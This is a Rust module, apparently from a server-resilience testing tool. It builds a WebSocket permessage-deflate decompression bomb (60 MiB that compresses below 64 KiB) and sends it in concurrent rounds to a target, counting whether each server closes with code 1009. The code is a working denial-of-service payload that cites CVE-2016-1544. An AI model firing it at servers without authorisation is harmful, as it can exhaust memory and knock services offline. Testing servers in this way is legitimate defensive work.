//! Messages that inflate a thousandfold (RFC 7692 §8, CVE-2016-1544 and similar).

use std::{io::Write, net::SocketAddr, time::Duration};

use anyhow::Result;
use flate2::{Compression, write::DeflateEncoder};

use super::{Attack, Tally, count, peer::Peer};
use crate::websocket::frame;

/// The time between two rounds.
const STROKE: Duration = Duration::from_millis(250);

/// The inflated size of a bomb. Compressed, it is just below the 64 KiB that a gateway accepts from
/// a client.
const INFLATED_BYTES: usize = 60 << 20;

/// The tally's names for all bombs, and for those that the server answers as it should.
pub(crate) const SENT: &str = "bombs";
pub(crate) const ANSWERED: &str = "answered with 1009";

const OFFER: &str = "Sec-WebSocket-Extensions: permessage-deflate\r\n";

/// Sends `count` bombs at once in each round.
pub(super) struct Bombs {
    server: SocketAddr,
    count: usize,
    bomb: Vec<u8>,
}

impl Bombs {
    pub(super) fn new(server: SocketAddr, count: usize) -> Result<Self> {
        let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
        let zeros = vec![0; 1 << 20];
        for _ in 0..INFLATED_BYTES >> 20 {
            encoder.write_all(&zeros)?;
        }
        encoder.flush()?;
        // §7.2.1: the four bytes at the end of a flush are removed.
        let mut deflated = encoder.get_ref().clone();
        deflated.truncate(deflated.len() - 4);
        Ok(Self {
            server,
            count,
            bomb: frame(0x2, &deflated).with_rsv(4).to_bytes(),
        })
    }
}

impl Attack for Bombs {
    fn stroke(&mut self, tally: &mut Tally) -> Result<Duration> {
        let asked = (0..self.count).map(|_| Peer::ask(self.server, "/connection/websocket", OFFER));
        let mut peers: Vec<Peer> = asked.collect::<Result<_, _>>()?;
        for peer in &mut peers {
            peer.wait_for_open()?;
        }
        for peer in &mut peers {
            // The server may close the connection before the end.
            _ = peer.stream.write_all(&self.bomb);
        }
        for peer in &mut peers {
            let name = match peer.close_code() {
                Ok(1009) => ANSWERED.to_owned(),
                Ok(code) => format!("answered with {code}"),
                Err(_) => "not answered".to_owned(),
            };
            count(tally, &name, 1);
        }
        count(tally, SENT, peers.len() as u64);
        Ok(STROKE)
    }
}
